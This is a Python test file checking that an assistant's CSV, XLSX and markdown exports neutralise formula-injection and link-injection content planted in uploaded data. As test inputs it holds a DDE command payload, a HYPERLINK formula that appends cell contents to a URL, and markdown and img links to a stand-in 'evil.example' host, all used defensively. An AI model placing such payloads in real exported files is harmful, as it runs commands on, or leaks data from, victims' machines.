"""Exports never carry a live formula: CSV cells are neutralised (OWASP), XLSX cells are strings."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest

from assistant.export import write_csv, write_xlsx
from ingest import parse_file

HYPERLINK = '=HYPERLINK("http://x"&A1,"y")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]


@pytest.fixture(scope="module")
def planted(seed_path: Path, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """The seed with an indicator name that is a DDE payload, as a hostile upload would carry it."""
    path = tmp_path_factory.mktemp("planted") / seed_path.name
    path.write_text(seed_path.read_text(encoding="utf-8").replace("强化社会发动", DDE), encoding="utf-8")
    [record] = [r for r in parse_file(path).indicators if r.indicator.startswith("=cmd|")]
    return record


def _rows(record) -> list[list[object]]:  # type: ignore[no-untyped-def]
    return [[record.project, record.indicator, record.period_value, record.line],
            *([value, "普通文字", -1.5, 7] for value in HOSTILE)]


def test_csv_cells_that_start_a_formula_are_neutralised(planted, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", ["项目", "指标", "值", "行"], _rows(planted))
    with path.open(encoding="utf-8-sig", newline="") as fh:
        header, first, *rest = list(csv.reader(fh))
    assert header == ["项目", "指标", "值", "行"] and first[:2] == ["扶贫工作经费", "'" + planted.indicator]
    assert [r[0] for r in rest] == ["'" + v for v in HOSTILE]
    assert {(r[1], r[2], r[3]) for r in rest} == {("普通文字", "-1.5", "7")}  # numbers stay numbers


def test_xlsx_cells_are_strings_never_formulas(planted, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_xlsx(tmp_path / "x.xlsx", [("指标", ["项目", "指标", "值", "行"], _rows(planted))])
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(path).active
    cells = {c.coordinate: c for row in ws.iter_rows() for c in row}
    assert (cells["B2"].value, cells["B2"].data_type) == (planted.indicator, "s")
    assert [(cells[f"A{n}"].value, cells[f"A{n}"].data_type) for n in range(3, 3 + len(HOSTILE))] == \
        [(v, "s") for v in HOSTILE]
    assert (cells["C3"].value, cells["C3"].data_type) == (-1.5, "n")


def test_markdown_exports_show_a_planted_link_as_text(seed_path: Path, tmp_path: Path) -> None:
    from assistant.export import conversation_markdown

    planted = "[点此领取](http://evil.example) ![x](http://evil.example/i.png) <img src=x>"
    path = tmp_path / seed_path.name
    path.write_text(seed_path.read_text(encoding="utf-8").replace("强化社会发动", planted), encoding="utf-8")
    [record] = [r for r in parse_file(path).indicators if "evil" in r.indicator]
    turn = {"question": "扶贫工作经费的社会效益指标", "resolved_question": "", "answer": f"“{record.indicator}”[1]",
            "citations": [{"ref": 1, "project": record.project, "indicator": record.indicator, "level1": record.level1,
                           "level2": record.level2, "source": record.source, "line": record.line, "text": record.text}]}
    text = conversation_markdown([turn])
    assert "](http" not in text.replace("\\](http", "") and "<img" not in text.replace("\\<img", "")
    assert "\\[点此领取\\](http://evil.example)" in text and "\\[1\\]" in text  # shown as written, escaped
